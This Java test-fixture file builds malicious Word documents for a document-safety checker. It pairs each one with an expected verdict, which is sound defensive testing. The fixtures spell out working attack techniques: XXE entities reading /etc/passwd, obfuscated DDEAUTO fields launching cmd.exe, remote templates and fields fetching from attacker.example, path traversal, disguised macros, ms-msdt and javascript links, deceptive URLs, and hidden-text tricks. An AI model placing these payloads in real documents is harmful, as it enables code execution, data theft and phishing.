package org.rostrum.document.check;

import static org.rostrum.document.safety.Severity.ASK;
import static org.rostrum.document.safety.Severity.REFUSE;
import static org.rostrum.document.safety.Severity.TELL;
import static org.rostrum.document.word.DocxMaker.p;
import static org.rostrum.document.word.DocxMaker.r;

import java.nio.ByteBuffer;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.List;
import java.util.function.Supplier;
import org.rostrum.document.safety.Severity;
import org.rostrum.document.word.DocxMaker;

/**
 * Every row of the table of attacks on Word files, each in several variants, made from a clean
 * file.
 */
final class AttackDocx {
  private static final String CLEAN = "Quillaya thanks the Presidency for convening this debate.";
  private static final String HTTP = "http://attacker.example/x";
  private static final String OLE = "\u00D0\u00CF\u0011\u00E0\u00A1\u00B1\u001A\u00E1";

  private final List<Attack> all = new ArrayList<>();

  private AttackDocx() {}

  /** All of them, by row. */
  static List<Attack> all() {
    AttackDocx made = new AttackDocx();
    made.packages();
    made.xml();
    made.relations();
    made.programs();
    made.fields();
    made.links();
    made.luggage();
    made.all.addAll(PictureAttacks.all());
    made.history();
    made.signs();
    made.looks();
    made.all.addAll(PackingAttacks.all());
    made.all.addAll(LookAttacks.all());
    made.all.addAll(FilingAttacks.all());
    made.all.addAll(UnlistedAttacks.all());
    return made.all.stream().sorted(Comparator.comparingInt(Attack::row)).toList();
  }

  private void add(int row, String name, Severity verdict, String code, Supplier<byte[]> file) {
    all.add(new Attack(row, name, verdict, code, file));
  }

  private static DocxMaker clean(String... more) {
    return DocxMaker.body(p(CLEAN), String.join("", more));
  }

  private static byte[] utf8(String words) {
    return words.getBytes(StandardCharsets.UTF_8);
  }

  private void packages() {
    add(
        1,
        "a part of 80 MB of zeros",
        REFUSE,
        "word-too-large",
        () -> clean().part("word/media/x.emf", new byte[80 << 20]).bytes());
    add(1, "a size that lies", REFUSE, "word-damaged", () -> ZipBytes.sized(clean().bytes(), 10));
    add(
        1,
        "a package in the package",
        REFUSE,
        "foreign-content",
        () -> clean().part("word/embeddings/x.zip", clean().bytes()).bytes());
    add(
        2,
        "two parts of one name but for case",
        REFUSE,
        "word-duplicate-part",
        () -> clean().part("word/DOCUMENT.xml", "<x/>").bytes());
    add(
        2,
        "two parts of one name but for form of letters",
        REFUSE,
        "word-duplicate-part",
        () -> clean().part("word/é.xml", "<x/>").part("word/e\u0301.xml", "<x/>").bytes());
    add(
        2,
        "bytes before the package",
        REFUSE,
        "word-wrong-type",
        () -> ZipBytes.shifted(clean().bytes(), ZipBytes.latin("<html></html>")));
    add(
        2,
        "another package before the package",
        REFUSE,
        "extra-bytes",
        () -> ZipBytes.shifted(clean().bytes(), clean().bytes()));
    add(
        2,
        "bytes between the entries",
        REFUSE,
        "extra-bytes",
        () -> ZipBytes.gapped(clean().bytes(), ZipBytes.latin("evil")));
    add(
        2,
        "bytes after the package",
        REFUSE,
        "extra-bytes",
        () -> ZipBytes.joined(clean().bytes(), ZipBytes.latin("evil")));
    add(2, "a remark", REFUSE, "extra-bytes", () -> ZipBytes.remarked(clean().bytes(), "evil"));
    add(
        2,
        "an encrypted entry",
        REFUSE,
        "word-encrypted",
        () -> ZipBytes.listed(clean().bytes(), 8, 9));
    add(
        2,
        "an odd way of packing",
        REFUSE,
        "word-mismatch",
        () -> ZipBytes.listed(clean().bytes(), 10, 12));
    add(
        2,
        "a list that differs from the entry",
        REFUSE,
        "word-mismatch",
        () -> {
          byte[] file = clean().bytes();
          file[ZipBytes.list(file) + 46] = 'X';
          return file;
        });
    add(
        3,
        "a name that leads out",
        REFUSE,
        "word-strange-name",
        () -> clean().part("../../x", "x").bytes());
    add(
        3,
        "a name at the root",
        REFUSE,
        "word-strange-name",
        () -> clean().part("/etc/motd", "x").bytes());
    add(
        3,
        "backward slashes",
        REFUSE,
        "word-strange-name",
        () -> clean().part("word\\..\\..\\x", "x").bytes());
    add(
        3,
        "percent signs",
        REFUSE,
        "word-strange-name",
        () -> clean().part("word/%2e%2e/%2e%2e/x", "x").bytes());
    add(3, "a drive", REFUSE, "word-strange-name", () -> clean().part("C:/x", "x").bytes());
    add(
        3,
        "a device",
        REFUSE,
        "word-strange-name",
        () -> clean().part("word/aux.xml", "<x/>").bytes());
    add(
        3,
        "a link to a file outside",
        REFUSE,
        "word-strange-name",
        () -> ZipBytes.linked(clean().bytes()));
  }

  private void xml() {
    for (String part :
        List.of(
            "word/document.xml",
            "[Content_Types].xml",
            "_rels/.rels",
            "word/_rels/document.xml.rels",
            "docProps/core.xml",
            "customXml/item1.xml",
            "word/media/x.svg",
            "word/settings.xml")) {
      add(
          4,
          "DOCTYPE in " + part,
          REFUSE,
          "word-doctype",
          () ->
              clean()
                  .part(part, "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><x>&a;</x>")
                  .bytes());
    }
    add(
        4,
        "DOCTYPE in UTF-16",
        REFUSE,
        "word-doctype",
        () ->
            clean()
                .part(
                    "customXml/item1.xml",
                    "\uFEFF<!DOCTYPE x [<!ENTITY a 'b'>]><x/>".getBytes(StandardCharsets.UTF_16LE))
                .bytes());
    add(
        4,
        "UTF-7",
        REFUSE,
        "odd-encoding",
        () ->
            clean()
                .part("customXml/item1.xml", "<?xml version=\"1.0\" encoding=\"UTF-7\"?><x/>")
                .bytes());
    add(
        4,
        "EBCDIC",
        REFUSE,
        "odd-encoding",
        () ->
            clean()
                .part(
                    "customXml/item1.xml",
                    "<?xml version=\"1.0\" encoding=\"IBM037\"?><x/>"
                        .getBytes(Charset.forName("IBM037")))
                .bytes());
    add(
        5,
        "300 elements deep",
        REFUSE,
        "word-too-deep",
        () -> clean().part("customXml/item1.xml", "<x>".repeat(300) + "</x>".repeat(300)).bytes());
    add(
        5,
        "600,000 elements",
        REFUSE,
        "word-too-deep",
        () -> clean().part("customXml/item1.xml", "<a>" + "<x/>".repeat(600_000) + "</a>").bytes());
    add(
        5,
        "an attribute of 2 MB",
        REFUSE,
        "word-too-deep",
        () ->
            clean().part("customXml/item1.xml", "<a b=\"" + "x".repeat(2 << 20) + "\"/>").bytes());
    add(5, "41,000 words", REFUSE, "word-too-long", () -> clean(p("word ".repeat(41_000))).bytes());
  }

  private void relations() {
    for (String type :
        List.of(
            "oleObject",
            "frame",
            "subDocument",
            "aFChunk",
            "externalLink",
            "video",
            "somethingElse")) {
      add(
          6,
          "an outside " + type,
          REFUSE,
          "outside-source",
          () -> clean().outside("x", type, HTTP).bytes());
    }
    add(
        6,
        "an outside picture",
        TELL,
        "outside-picture",
        () -> clean().outside("x", "image", HTTP).bytes());
    add(
        6,
        "a relation that says it leads inside",
        REFUSE,
        "outside-source",
        () -> clean().relation("x", "oleObject", HTTP).bytes());
    add(
        6,
        "an odd TargetMode",
        REFUSE,
        "outside-source",
        () ->
            clean()
                .part(
                    "word/_rels/document.xml.rels",
                    rels(
                        "<Relationship Id=\"x\" Type=\"http://x/OLEOBJECT\" Target=\"x\""
                            + " TargetMode=\" eXTERNAL \"/>"))
                .bytes());
    for (String target :
        List.of(
            HTTP,
            "file://host/share/a.dotm",
            "file:////host/share/a.dotm",
            "\\\\host\\share\\a.dotm",
            "htt&#9;p://attacker.example/a.dotm",
            "%5c%5chost%5cshare%5ca.dotm")) {
      add(
          7,
          "a template at " + target.replace("&#9;", "(tab)"),
          REFUSE,
          "remote-template",
          () -> template(target));
    }
    add(
        7,
        "a template on the same machine",
        TELL,
        "local-template",
        () -> template("file:///C:\\Users\\x\\Normal.dotm"));
  }

  private static byte[] template(String target) {
    return clean()
        .settings("<w:zoom/>")
        .part(
            "word/_rels/settings.xml.rels",
            rels(
                "<Relationship Id=\"x\""
                    + " Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\""
                    + " Target=\""
                    + target
                    + "\" TargetMode=\"External\"/>"))
        .bytes();
  }

  private static String rels(String inside) {
    return "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
        + inside
        + "</Relationships>";
  }

  private void programs() {
    byte[] ole = ZipBytes.latin(OLE + "\0".repeat(600));
    add(
        8,
        "macros",
        REFUSE,
        "macro",
        () ->
            clean()
                .relation("x", "vbaProject", "vbaProject.bin")
                .part("word/vbaProject.bin", ole)
                .bytes());
    add(
        8,
        "macros by another name",
        REFUSE,
        "macro",
        () ->
            clean()
                .relation("x", "vbaProject", "media/a.png")
                .part("word/media/a.png", ole)
                .bytes());
    add(
        8,
        "docm renamed",
        REFUSE,
        "macro",
        () -> clean().mainType("application/vnd.ms-word.document.macroEnabled.main+xml").bytes());
    add(
        8,
        "an ActiveX control",
        REFUSE,
        "active-control",
        () ->
            clean(
                    "<w:p><w:r><w:object><w:control r:id=\"c\""
                        + " w:name=\"Run\"/></w:object></w:r></w:p>")
                .relation("c", "control", "activeX/activeX1.xml")
                .part("word/activeX/activeX1.xml", "<x/>")
                .bytes());
    add(
        8,
        "an embedded object",
        REFUSE,
        "embedded-object",
        () ->
            clean(
                    "<w:p><w:r><w:object><o:OLEObject ProgID=\"Package\""
                        + " r:id=\"o\"/></w:object></w:r></w:p>")
                .relation("o", "oleObject", "embeddings/o.bin")
                .part("word/embeddings/o.bin", ole)
                .bytes());
    add(
        8,
        "an object nobody points to",
        REFUSE,
        "embedded-object",
        () -> clean().part("word/media/harmless.dat", ole).bytes());
    add(
        8,
        "a program",
        REFUSE,
        "foreign-content",
        () -> clean().part("word/media/a.png", "MZ\u0090\u0000").bytes());
    add(
        8,
        "a PDF",
        REFUSE,
        "foreign-content",
        () -> clean().part("word/media/a.bin", "%PDF-1.7").bytes());
    add(
        13,
        "altChunk",
        REFUSE,
        "alt-chunk",
        () ->
            clean("<w:altChunk r:id=\"a\"/>")
                .relation("a", "aFChunk", "a.htm")
                .part("word/a.htm", "<html>Evil</html>")
                .bytes());
    add(
        13,
        "altChunk by another name",
        REFUSE,
        "alt-chunk",
        () ->
            clean("<w:altChunk r:id=\"a\"/>")
                .relation("a", "aFChunk", "styles2.xml")
                .part("word/styles2.xml", "{\\rtf1 Evil}")
                .bytes());
    add(
        14,
        "a data source",
        REFUSE,
        "data-source",
        () ->
            clean()
                .settings(
                    "<w:mailMerge><w:connectString w:val=\"Provider=x\"/><w:query"
                        + " w:val=\"SELECT\"/></w:mailMerge>")
                .bytes());
    add(
        14,
        "an addition to Word's windows",
        REFUSE,
        "add-in",
        () ->
            clean()
                .relation("x", "ui/extensibility", "../customUI/customUI.xml")
                .part(
                    "customUI/customUI.xml",
                    "<customUI xmlns=\"http://schemas.microsoft.com/office/2006/01/customui\""
                        + " onLoad=\"x\"/>")
                .bytes());
    add(
        14,
        "a task pane",
        REFUSE,
        "add-in",
        () ->
            clean()
                .part(
                    "word/webextensions/taskpanes.xml",
                    "<wetp:taskpanes"
                        + " xmlns:wetp=\"http://schemas.microsoft.com/office/webextensions/taskpanes/2010/11\"/>")
                .bytes());
    add(
        14,
        "a frameset",
        REFUSE,
        "frames",
        () ->
            clean()
                .part(
                    "word/webSettings.xml",
                    clean().root("webSettings", "<w:frameset><w:frame/></w:frameset>"))
                .bytes());
    add(
        14,
        "a schema",
        TELL,
        "attached-schema",
        () -> clean().settings("<w:attachedSchema w:val=\"urn:x\"/>").bytes());
  }

  private static String field(String... pieces) {
    StringBuilder field = new StringBuilder("<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>");
    for (String piece : pieces) {
      field.append(
          piece.startsWith("<")
              ? piece
              : "<w:r><w:instrText xml:space=\"preserve\">" + piece + "</w:instrText></w:r>");
    }
    return field
        + "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>"
        + r("shown")
        + "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";
  }

  private static String inner(String instruction) {
    return "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>"
        + instruction
        + "</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";
  }

  private void fields() {
    add(
        9,
        "DDEAUTO",
        REFUSE,
        "field-dde",
        () -> clean(field(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" ")).bytes());
    add(
        9,
        "dde in small letters",
        REFUSE,
        "field-dde",
        () -> clean(field(" dde excel a ")).bytes());
    add(
        9,
        "DDEAUTO over many runs",
        REFUSE,
        "field-dde",
        () -> clean(field(" D", "D", "E", "AU", "TO cmd ")).bytes());
    add(
        9,
        "DDEAUTO with signs of zero width",
        REFUSE,
        "field-dde",
        () -> clean(field(" D\u200BD\u2060EAUTO cmd ")).bytes());
    add(
        9,
        "DDE in fldSimple",
        REFUSE,
        "field-dde",
        () ->
            clean("<w:p><w:fldSimple w:instr=\" DDE cmd a b \">" + r("x") + "</w:fldSimple></w:p>")
                .bytes());
    add(
        9,
        "DDE in a QUOTE of numbers",
        REFUSE,
        "field-dde",
        () -> clean(field(inner(" QUOTE 68 68 69 65 85 84 79 "), " cmd ")).bytes());
    add(
        9,
        "DDE in a SET",
        REFUSE,
        "field-dde",
        () -> clean(field(" SET c \"DDEAUTO cmd\" ")).bytes());
    add(
        9,
        "a name made by another field",
        ASK,
        "field-computed",
        () -> clean(field(inner(" REF c "), " cmd ")).bytes());
    for (String kind :
        List.of(
            "INCLUDETEXT",
            "INCLUDEPICTURE",
            "IMPORT",
            "LINK Word.Document",
            "DATABASE \\d",
            "RD")) {
      add(
          10,
          kind + " from outside",
          REFUSE,
          "field-fetch",
          () -> clean(field(" " + kind + " \"" + HTTP + "\" ")).bytes());
    }
    add(
        10,
        "INCLUDEPICTURE from another machine",
        REFUSE,
        "field-fetch",
        () -> clean(field(" INCLUDEPICTURE \"\\\\\\\\host\\\\share\\\\a.png\" ")).bytes());
    add(
        10,
        "INCLUDETEXT of a name",
        ASK,
        "field-include",
        () -> clean(field(" INCLUDETEXT other.docx ")).bytes());
    for (String kind :
        List.of("MACROBUTTON Run Click", "ASK a \"b\"", "FILLIN \"b\"", "AUTOTEXT x")) {
      add(10, kind, ASK, "field-include", () -> clean(field(" " + kind + " ")).bytes());
    }
    for (String kind :
        List.of(
            "DATE",
            "TIME",
            "FILENAME",
            "USERNAME",
            "IF 1 = 1 \"a\" \"b\"",
            "= 1 + 1",
            "DOCPROPERTY x")) {
      add(11, kind, TELL, "field-changing", () -> clean(field(" " + kind + " ")).bytes());
    }
  }

  private static DocxMaker linked(String target, String shown) {
    return clean("<w:p><w:hyperlink r:id=\"h\">" + r(shown) + "</w:hyperlink></w:p>")
        .outside("h", "hyperlink", target);
  }

  private void links() {
    for (String target :
        List.of(
            "javascript:alert(1)",
            "JaVa&#10;Script:alert(1)",
            "vbscript:x",
            "ms-msdt:/id x",
            "search-ms:query=x",
            "mhtml:http://x",
            "data:text/html,x")) {
      add(
          12,
          "a link to " + target.replace("&#10;", "(line)"),
          ASK,
          "link-dangerous",
          () -> linked(target, "here").bytes());
    }
    for (String target :
        List.of("file:///C:/x.doc", "\\\\host\\share\\x", "file://host/x", "%5C%5Chost%5Cx")) {
      add(12, "a link to " + target, TELL, "link-removed", () -> linked(target, "here").bytes());
    }
    add(
        12,
        "a link in a field",
        ASK,
        "link-dangerous",
        () -> clean(field(" HYPERLINK \"javascript:x\" ")).bytes());
    add(
        12,
        "a link that shows another address",
        ASK,
        "link-mismatch",
        () -> linked("https://attacker.example/", "https://www.un.org/").bytes());
    add(
        12,
        "a link whose name ends in another",
        ASK,
        "link-mismatch",
        () -> linked("https://un.org.attacker.example/", "www.un.org").bytes());
    add(
        12,
        "a link with a user's name before the host",
        ASK,
        "link-mismatch",
        () -> linked("https://un.org@attacker.example/", "here").bytes());
    add(
        12,
        "a mail address that is another",
        ASK,
        "link-mismatch",
        () -> linked("mailto:a@attacker.example", "mission@un.example").bytes());
  }

  private void luggage() {
    String control =
        "<w:sdt><w:sdtPr><w:dataBinding w:xpath=\"/x[1]/title[1]\""
            + " w:storeItemID=\"{1}\"/></w:sdtPr><w:sdtContent>"
            + p("Shown")
            + "</w:sdtContent></w:sdt>";
    add(
        15,
        "words bound to the same data",
        TELL,
        "bound-data",
        () -> clean(control).part("customXml/item1.xml", "<x><title>Shown</title></x>").bytes());
    add(
        15,
        "words bound to other data",
        ASK,
        "bound-data-differs",
        () -> clean(control).part("customXml/item1.xml", "<x><title>Other</title></x>").bytes());
    add(
        15,
        "custom data",
        TELL,
        "custom-data",
        () ->
            clean()
                .relation("x", "customXml", "../customXml/item1.xml")
                .part("customXml/item1.xml", "<x/>")
                .bytes());
    add(
        15,
        "text modules",
        TELL,
        "text-modules",
        () ->
            clean()
                .relation("x", "glossaryDocument", "glossary/document.xml")
                .part("word/glossary/document.xml", "<x/>")
                .bytes());
    add(16, "a typeface with a and b changed over", ASK, "remapped-font", () -> font(98, 97));
    add(16, "an honest typeface", TELL, "embedded-font", () -> font(97, 98));
    add(
        16,
        "a broken typeface",
        ASK,
        "remapped-font",
        () ->
            clean()
                .part("word/fontTable.xml", fonts())
                .relation("f", "fontTable", "fontTable.xml")
                .part("word/_rels/fontTable.xml.rels", rels(fontRelation()))
                .part("word/fonts/f.odttf", "not a font")
                .bytes());
    add(
        16,
        "words in a typeface of symbols",
        ASK,
        "symbol-font",
        () ->
            clean(
                    p(
                        "",
                        r(
                            "<w:rFonts w:ascii=\"Wingdings\" w:hAnsi=\"Wingdings\"/>",
                            "secret words")))
                .bytes());
  }

  private static String fontRelation() {
    return "<Relationship Id=\"e\""
        + " Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/font\""
        + " Target=\"fonts/f.odttf\"/>";
  }

  private static String fonts() {
    return clean()
        .root(
            "fonts",
            "<w:font w:name=\"Evil\"><w:embedRegular r:id=\"e\""
                + " w:fontKey=\"{00000000-0000-0000-0000-000000000000}\"/></w:font>");
  }

  /** A typeface of two shapes whose character map says which letters they are. */
  private static byte[] font(int first, int second) {
    ByteBuffer font = ByteBuffer.allocate(28 + 12 + 16 + 24);
    font.putInt(0x00010000).putShort((short) 1).putShort((short) 0).putInt(0);
    font.putInt(0x636D6170).putInt(0).putInt(28).putInt(52);
    font.putShort((short) 0)
        .putShort((short) 1)
        .putShort((short) 3)
        .putShort((short) 10)
        .putInt(12);
    font.putShort((short) 12).putShort((short) 0).putInt(40).putInt(0).putInt(2);
    font.putInt(first).putInt(first).putInt(1);
    font.position(28 + 12 + 16 + 12);
    font.putInt(second).putInt(second).putInt(2);
    return clean()
        .part("word/fontTable.xml", fonts())
        .relation("f", "fontTable", "fontTable.xml")
        .part("word/_rels/fontTable.xml.rels", rels(fontRelation()))
        .part("word/fonts/f.odttf", font.array())
        .bytes();
  }

  private void history() {
    add(
        18,
        "inserted words",
        ASK,
        "tracked-changes",
        () ->
            clean("<w:p><w:ins w:id=\"1\" w:author=\"a\">" + r("new") + "</w:ins></w:p>").bytes());
    add(
        18,
        "deleted words",
        ASK,
        "tracked-changes",
        () ->
            clean(
                    "<w:p><w:del w:id=\"1\""
                        + " w:author=\"a\"><w:r><w:delText>old</w:delText></w:r></w:del></w:p>")
                .bytes());
    add(
        18,
        "a comment",
        ASK,
        "comment",
        () ->
            clean()
                .comments("<w:comment w:id=\"0\">" + p("Not for the public") + "</w:comment>")
                .bytes());
    add(
        20,
        "protection",
        TELL,
        "protection",
        () ->
            clean()
                .settings("<w:documentProtection w:edit=\"readOnly\" w:enforcement=\"1\"/>")
                .bytes());
    add(
        20,
        "a locked file",
        REFUSE,
        "word-encrypted",
        () ->
            ZipBytes.joined(
                ZipBytes.latin(OLE), "EncryptedPackage".getBytes(StandardCharsets.UTF_16LE)));
    add(
        21,
        "a signature",
        TELL,
        "signature",
        () -> clean().part("_xmlsignatures/sig1.xml", "<Signature/>").bytes());
    add(22, "RTF", REFUSE, "word-wrong-type", () -> utf8("{\\rtf1 x}"));
    add(22, "HTML", REFUSE, "word-wrong-type", () -> utf8("<html>x</html>"));
    add(
        22,
        "HTML that begins as a package",
        REFUSE,
        "word-truncated",
        () -> utf8("PK\3\4<html>x</html>"));
    add(22, "Word 97", REFUSE, "word-wrong-type", () -> ZipBytes.latin(OLE));
    add(22, "Strict", TELL, "", () -> clean().strict().bytes());
    add(
        23,
        "two texts",
        ASK,
        "two-texts",
        () ->
            clean(
                    "<w:p><w:r><mc:AlternateContent><mc:Choice"
                        + " Requires=\"wps\"><w:t>yes</w:t></mc:Choice><mc:Fallback><w:t>no</w:t></mc:Fallback></mc:AlternateContent></w:r></w:p>")
                .bytes());
    add(
        23,
        "one text twice",
        TELL,
        "",
        () ->
            clean(
                    "<w:p><w:r><mc:AlternateContent><mc:Choice"
                        + " Requires=\"wps\"><w:t>yes</w:t></mc:Choice><mc:Fallback><w:t>yes</w:t></mc:Fallback></mc:AlternateContent></w:r></w:p>")
                .bytes());
  }

  private void signs() {
    add(
        24,
        "an override",
        REFUSE,
        "bidi-override",
        () -> clean(p("We do \u202Eton\u202C agree")).bytes());
    add(
        24,
        "isolates that turn words around",
        ASK,
        "bidi-order",
        () -> clean(p("We \u2067\u2066agree\u2069 \u2066not\u2069\u2069.")).bytes());
    add(
        24,
        "an isolate that is not closed",
        ASK,
        "bidi-order",
        () -> clean(p("We \u2067\u2066agree\u2069 \u2066not")).bytes());
    add(
        24,
        "balanced isolates in Arabic",
        TELL,
        "",
        () -> clean(p("قال \u2066S/2026/1\u2069 في الجلسة")).bytes());
    add(
        25,
        "Cyrillic letters in a Latin word",
        ASK,
        "look-alike",
        () -> clean(p("The p\u0430ypal of States")).bytes());
    add(
        25,
        "a Cyrillic word among Latin ones",
        ASK,
        "look-alike",
        () -> clean(p("We call on \u0441\u043E\u0440\u0435 States to act")).bytes());
    add(
        25,
        "Latin letters in a Cyrillic word",
        ASK,
        "look-alike",
        () -> clean(p("Заявление Cовета")).bytes());
    add(
        25,
        "Russian quoted in English",
        TELL,
        "",
        () -> clean(p("The word мир means peace.")).bytes());
    add(
        25,
        "a sign of zero width in a word",
        ASK,
        "invisible-sign",
        () -> clean(p("se\u200Bcret")).bytes());
    add(25, "tags", ASK, "invisible-sign", () -> clean(p("x\uDB40\uDC68\uDB40\uDC69 y")).bytes());
    add(25, "variation selectors", ASK, "invisible-sign", () -> clean(p("a\uFE01\uFE02b")).bytes());
    add(25, "a soft hyphen", TELL, "", () -> clean(p("multi\u00ADlateral")).bytes());
    add(25, "joiners in Persian", TELL, "", () -> clean(p("می\u200Cخواهیم")).bytes());
  }

  private void look(String name, Severity verdict, String code, String blocks) {
    add(26, name, verdict, code, () -> clean(blocks).bytes());
  }

  private void run(String name, String code, String properties) {
    look(name, ASK, code, p("", r(properties, "unseen words")));
  }

  private void looks() {
    run("vanish", "hidden-text", "<w:vanish/>");
    run("webHidden", "hidden-text", "<w:webHidden/>");
    run("specVanish", "hidden-text", "<w:specVanish/>");
    run("white on white", "faint-text", "<w:color w:val=\"FFFFFF\"/>");
    run("nearly white", "faint-text", "<w:color w:val=\"FDFDFD\"/>");
    run(
        "white by the theme",
        "faint-text",
        "<w:color w:val=\"000000\" w:themeColor=\"background1\"/>");
    run(
        "the colour of its shading",
        "faint-text",
        "<w:color w:val=\"FF0000\"/><w:shd w:val=\"clear\" w:fill=\"FF0000\"/>");
    run(
        "the colour of its highlight",
        "faint-text",
        "<w:color w:val=\"FFFF00\"/><w:highlight w:val=\"yellow\"/>");
    run("letters without fill", "faint-text", "<w14:textFill><w14:noFill/></w14:textFill>");
    run("half a point", "tiny-text", "<w:sz w:val=\"1\"/>");
    run("a width of one per cent", "tiny-text", "<w:w w:val=\"1\"/>");
    run("squeezed", "tiny-text", "<w:spacing w:val=\"-200\"/>");
    run("apart by a page", "misplaced-text", "<w:spacing w:val=\"31680\"/>");
    run("raised off the page", "misplaced-text", "<w:position w:val=\"3000\"/>");
    look(
        "a frame off the page",
        ASK,
        "misplaced-text",
        p("<w:framePr w:x=\"30000\" w:y=\"1\"/>", r("unseen words")));
    look(
        "an indent off the page",
        ASK,
        "misplaced-text",
        p("<w:ind w:left=\"-20000\"/>", r("unseen words")));
    look(
        "a line without height",
        ASK,
        "covered-text",
        p("<w:spacing w:line=\"1\" w:lineRule=\"exact\"/>", r("unseen words")));
    look(
        "a row without height",
        ASK,
        "covered-text",
        "<w:tbl><w:tr><w:trPr><w:trHeight w:val=\"1\" w:hRule=\"exact\"/></w:trPr><w:tc>"
            + p("unseen words")
            + "</w:tc></w:tr></w:tbl>");
    look(
        "a column without width",
        ASK,
        "covered-text",
        "<w:tbl><w:tblPr><w:tblLayout w:type=\"fixed\"/></w:tblPr><w:tblGrid><w:gridCol"
            + " w:w=\"1\"/></w:tblGrid><w:tr><w:tc><w:tcPr><w:tcW w:w=\"1\""
            + " w:type=\"dxa\"/></w:tcPr>"
            + p("unseen words")
            + "</w:tc></w:tr></w:tbl>");
    look(
        "white in a white cell",
        ASK,
        "faint-text",
        "<w:tbl><w:tr><w:tc><w:tcPr><w:shd w:val=\"clear\" w:fill=\"112233\"/></w:tcPr>"
            + p("", r("<w:color w:val=\"112233\"/>", "unseen words"))
            + "</w:tc></w:tr></w:tbl>");
    look(
        "white in a dark cell",
        TELL,
        "",
        "<w:tbl><w:tr><w:tc><w:tcPr><w:shd w:val=\"clear\" w:fill=\"112233\"/></w:tcPr>"
            + p("", r("<w:color w:val=\"FFFFFF\"/>", "seen words"))
            + "</w:tc></w:tr></w:tbl>");
    add(
        26,
        "vanish by a style",
        ASK,
        "hidden-text",
        () ->
            clean(p("<w:pStyle w:val=\"S\"/>", r("unseen words")))
                .styles(
                    "<w:style w:type=\"paragraph\""
                        + " w:styleId=\"S\"><w:rPr><w:vanish/></w:rPr></w:style>")
                .bytes());
    add(
        26,
        "white by a style of a style",
        ASK,
        "faint-text",
        () ->
            clean(p("<w:pStyle w:val=\"S\"/>", r("unseen words")))
                .styles(
                    "<w:style w:type=\"paragraph\" w:styleId=\"B\"><w:rPr><w:color"
                        + " w:val=\"FFFFFF\"/></w:rPr></w:style><w:style w:type=\"paragraph\""
                        + " w:styleId=\"S\"><w:basedOn w:val=\"B\"/></w:style>")
                .bytes());
  }
}
